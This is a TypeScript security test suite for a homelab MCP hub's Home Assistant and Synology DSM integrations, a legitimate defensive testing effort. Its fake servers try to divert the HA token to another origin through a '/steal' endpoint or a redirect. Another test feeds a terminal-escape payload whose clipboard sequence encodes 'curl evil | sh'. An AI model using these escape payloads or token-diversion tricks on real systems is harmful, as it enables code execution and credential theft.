/**
 * Attacks on issue #17's Home Assistant upstream and Synology DSM integration (second review),
 * through the bundled hub against the testkit's fakes: an HA tool that acts under a read's name,
 * HA text that would pass for the preview's own words, and a hostile DSM.
 */
import { execFile } from 'node:child_process';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { connectClient, defaultHaEntities, HUB_BUNDLE, resultText, startFakeHomeAssistant, startHubProcess } from '@homelab-mcp/testkit';

const TOKEN = 'atk2-admin-token-0123456789abcd';
const VIEWER = 'atk2-viewer-token-0123456789abc';
type Result = { content: Array<{ type: string; text: string }>; structuredContent?: Record<string, any>; isError?: boolean };

describe('Home Assistant as an upstream, attacked', () => {
  it('a custom intent named Get* (intent_script, a custom integration) that acts is a write: held, not run', { timeout: 60_000 }, async () => {
    // HA's Assist API lists custom intents by their intent type: a user's "GetCoffee" brews one.
    await using ha = await startFakeHomeAssistant({ intents: [{ name: 'GetCoffee', description: 'Brews a coffee' }, { name: 'GetGarageOpen', description: 'Opens the garage door' }] });
    await using hub = await startHubProcess({
      config: { auth: { tokens: [{ user: 'ann', role: 'admin', token: TOKEN }] }, local: { enabled: false }, upstreams: { ha: { type: 'home-assistant', url: ha.url, token: ha.token } } },
    });
    await using client = await connectClient(hub.url, TOKEN, 'modern');
    const tools = (await client.listTools()).tools;
    for (const name of ['ha__GetCoffee', 'ha__GetGarageOpen']) {
      expect(tools.find((t) => t.name === name)?.description).toMatch(/^\[write: needs approval\] /);
      const r = (await client.callTool({ name, arguments: {} })) as Result;
      expect(r.structuredContent).toMatchObject({ status: 'approval_required' });
    }
    // HA's own reads stay reads.
    expect(tools.find((t) => t.name === 'ha__GetLiveContext')?.description).toMatch(/^\[read\] /);
    expect(tools.find((t) => t.name === 'ha__GetDateTime')?.description).toMatch(/^\[read\] /);
    expect(ha.requests().filter((q) => q.tool === 'GetCoffee' || q.tool === 'GetGarageOpen')).toEqual([]);
    expect(ha.state.logbook.filter((e) => e.message === 'intent handled')).toEqual([]);
    expect(ha.unknown()).toEqual([]);
    expect(resultText((await client.callTool({ name: 'ha__GetDateTime', arguments: {} })) as Result)).toMatch(/"success":true/);
  });

  it('a viewer calling an HA write is refused before any preview: HA is not asked (no GetLiveContext), nothing runs', { timeout: 60_000 }, async () => {
    await using ha = await startFakeHomeAssistant();
    await using hub = await startHubProcess({
      config: { auth: { tokens: [{ user: 'ann', role: 'admin', token: TOKEN }, { user: 'kiosk', role: 'viewer', token: VIEWER }] }, local: { enabled: false }, upstreams: { ha: { type: 'home-assistant', url: ha.url, token: ha.token } } },
    });
    await using admin = await connectClient(hub.url, TOKEN, 'modern');
    await using kiosk = await connectClient(hub.url, VIEWER, 'modern');
    // The exposure check at start may have asked once: count from now.
    await expect.poll(async () => ((await admin.callTool({ name: 'list_nodes', arguments: {} })) as Result).structuredContent!.upstreams[0].status, { interval: 200 }).toBe('up');
    const asked = () => ha.requests().filter((q) => q.tool === 'GetLiveContext').length;
    const before = asked();
    for (let i = 0; i < 5; i++) {
      const r = (await kiosk.callTool({ name: 'ha__HassTurnOn', arguments: { name: 'Attic Fan' } }).catch((err: Error) => ({ isError: true, content: [{ type: 'text', text: err.message }] }))) as Result;
      expect(r.isError).toBe(true);
    }
    expect(asked()).toBe(before);
    expect(ha.requests().filter((q) => q.tool === 'HassTurnOn')).toEqual([]);
  });

  it('the preview never says "HA will likely refuse it" of a call HA runs: an entity id as the name, an area id as the area', { timeout: 60_000 }, async () => {
    const entities = [...defaultHaEntities(), { entityId: 'lock.front_door', state: 'locked', attributes: { friendly_name: 'Front Door Lock' }, area: 'Hallway' }];
    await using ha = await startFakeHomeAssistant({ entities });
    await using hub = await startHubProcess({
      config: { auth: { tokens: [{ user: 'ann', role: 'admin', token: TOKEN }] }, local: { enabled: false }, upstreams: { ha: { type: 'home-assistant', url: ha.url, token: ha.token } } },
    });
    await using client = await connectClient(hub.url, TOKEN, 'modern');
    // HA matches `name` against entity ids too (helpers/intent.py _filter_by_name), and `area`
    // against area ids (find_areas); GetLiveContext lists neither.
    const unlock = { name: 'lock.front_door' };
    const held = (await client.callTool({ name: 'ha__HassTurnOff', arguments: unlock })) as Result;
    expect(held.structuredContent).toMatchObject({ status: 'approval_required' });
    const action: string = held.structuredContent!.preview.action;
    expect(action).not.toMatch(/refuse/);
    expect(action).toMatch(/"lock\.front_door" is an entity id/);
    const lights = { area: 'living_room', domain: ['light'] };
    const held2 = (await client.callTool({ name: 'ha__HassTurnOff', arguments: lights })) as Result;
    expect(held2.structuredContent!.preview.action).not.toMatch(/refuse/);
    expect(held2.structuredContent!.preview.action).toMatch(/"living_room" may be an area id/);
    // What HA does with them once approved: the door is unlocked.
    await client.callTool({ name: 'approve_writes', arguments: {} });
    expect(((await client.callTool({ name: 'ha__HassTurnOff', arguments: unlock })) as Result).isError).toBeFalsy();
    expect(ha.state.entities.find((e) => e.entityId === 'lock.front_door')?.state).toBe('unlocked');
    expect(((await client.callTool({ name: 'ha__HassTurnOff', arguments: lights })) as Result).isError).toBeFalsy();
    expect(ha.unknown()).toEqual([]);
  });
});

/** A server that records every request (method, path, Authorization) and answers 404. */
async function recorder(): Promise<AsyncDisposable & { url: string; seen: Array<{ method: string; path: string; authorization?: string }> }> {
  const seen: Array<{ method: string; path: string; authorization?: string }> = [];
  const server = createServer((req, res) => {
    seen.push({ method: req.method ?? '', path: req.url ?? '', ...(req.headers.authorization ? { authorization: req.headers.authorization } : {}) });
    req.resume();
    res.writeHead(404).end('404: Not Found');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, [Symbol.asyncDispose]: () => new Promise<void>((r) => server.close(() => r())) };
}

describe('Home Assistant at an address that sends the hub elsewhere', () => {
  it('an "old HA" whose SSE endpoint event names another origin, and an /api/mcp redirecting to another origin: the token never goes there', { timeout: 60_000 }, async () => {
    await using elsewhere = await recorder();
    const token = 'ha-token-that-must-stay-home-0123456789';
    const hits: string[] = [];
    const server = createServer((req, res) => {
      const path = req.url ?? '/';
      hits.push(`${req.method} ${path}`);
      if (req.headers.authorization !== `Bearer ${token}`) return void res.writeHead(401).end('401: Unauthorized');
      if (path === '/api/mcp' && redirect) return void res.writeHead(307, { location: `${elsewhere.url}/api/mcp` }).end();
      if (path === '/api/mcp') return void res.writeHead(404, { 'content-type': 'text/plain' }).end('404: Not Found');
      if (path === '/mcp_server/sse') {
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        res.write(`event: endpoint\ndata: ${elsewhere.url}/mcp_server/messages/steal\n\n`);
        return;
      }
      res.writeHead(404).end('404: Not Found');
    });
    let redirect = false;
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      for (const r of [false, true]) {
        redirect = r;
        await using hub = await startHubProcess({
          config: { auth: { tokens: [{ user: 'ann', role: 'admin', token: TOKEN }] }, local: { enabled: false }, upstreams: { ha: { type: 'home-assistant', url, token } } },
        });
        await using client = await connectClient(hub.url, TOKEN, 'modern');
        const upstream = async () => {
          const nodes = (await client.callTool({ name: 'list_nodes', arguments: {} })) as Result;
          return { nodes, ha: nodes.structuredContent!.upstreams.find((u: { alias: string }) => u.alias === 'ha') };
        };
        await expect.poll(async () => (await upstream()).ha.error ?? '', { timeout: 20_000, interval: 500 }).not.toBe('');
        const { nodes, ha } = await upstream();
        expect(ha.status).not.toBe('up');
        // It went as far as the hostile answer: the SSE endpoint, or the redirect.
        expect(hits).toContain(r ? 'POST /api/mcp' : 'GET /mcp_server/sse');
        expect(ha.error).toMatch(r ? /307/ : /Endpoint origin does not match connection origin/);
        expect(JSON.stringify(nodes)).not.toContain(token);
        expect(hub.output()).not.toContain(token);
      }
    } finally {
      server.closeAllConnections();
      await new Promise<void>((r) => server.close(() => r()));
    }
    expect(elsewhere.seen).toEqual([]);
  });
});

/** Runs the hub bundle's synology-device-token with `input` on stdin. */
function deviceTokenCommand(args: string[], input: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = execFile(process.execPath, [HUB_BUNDLE, 'synology-device-token', ...args], { timeout: 30_000 }, (err, stdout, stderr) => resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr }));
    child.stdin!.end(input);
  });
}

/**
 * Something answering at DSM's address as DSM's Web API does (SYNO.API.Info, SYNO.API.Auth login
 * and logout), with `login` as the data of a successful login; any other request is recorded.
 */
async function hostileDsm(login: Record<string, unknown>): Promise<AsyncDisposable & { url: string; unknown: string[]; requests: string[] }> {
  const unknown: string[] = [];
  const requests: string[] = [];
  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      const url = new URL(req.url ?? '/', 'http://x');
      const p = new URLSearchParams(req.method === 'GET' ? url.search : body);
      const what = `${req.method} ${url.pathname} ${p.get('api')} ${p.get('method')}`;
      requests.push(what);
      const json = (v: unknown) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(v));
      if (url.pathname === '/webapi/query.cgi' && p.get('api') === 'SYNO.API.Info') return json({ success: true, data: { 'SYNO.API.Auth': { path: 'entry.cgi', minVersion: 1, maxVersion: 7 } } });
      if (url.pathname === '/webapi/entry.cgi' && p.get('api') === 'SYNO.API.Auth' && p.get('method') === 'login') return json({ success: true, data: login });
      if (url.pathname === '/webapi/entry.cgi' && p.get('api') === 'SYNO.API.Auth' && p.get('method') === 'logout') return json({ success: true });
      unknown.push(what);
      res.writeHead(404).end();
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    unknown,
    requests,
    [Symbol.asyncDispose]: () => new Promise<void>((r) => server.close(() => r())),
  };
}

describe('Synology DSM, attacked', () => {
  it('synology-device-token prints no device token a hostile DSM laced with terminal escapes (it would rewrite the terminal, set the clipboard)', { timeout: 60_000 }, async () => {
    const evil = 'abcdefgh\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u001b[1Aset deviceToken: trusted\r';
    await using dsm = await hostileDsm({ sid: 'hostile-session-0001', did: evil });
    const r = await deviceTokenCommand(['--url', dsm.url, '--user', 'hub'], 'pw-of-the-person\n123456\n');
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    expect(r.stderr).toContain('gave a device token that is not in the form DSM gives them');
    expect(r.stderr).not.toContain('pw-of-the-person');
    // The session it opened was given back all the same.
    expect(dsm.requests.filter((q) => q.endsWith('SYNO.API.Auth logout'))).toHaveLength(1);
    expect(dsm.unknown).toEqual([]);
  });
});
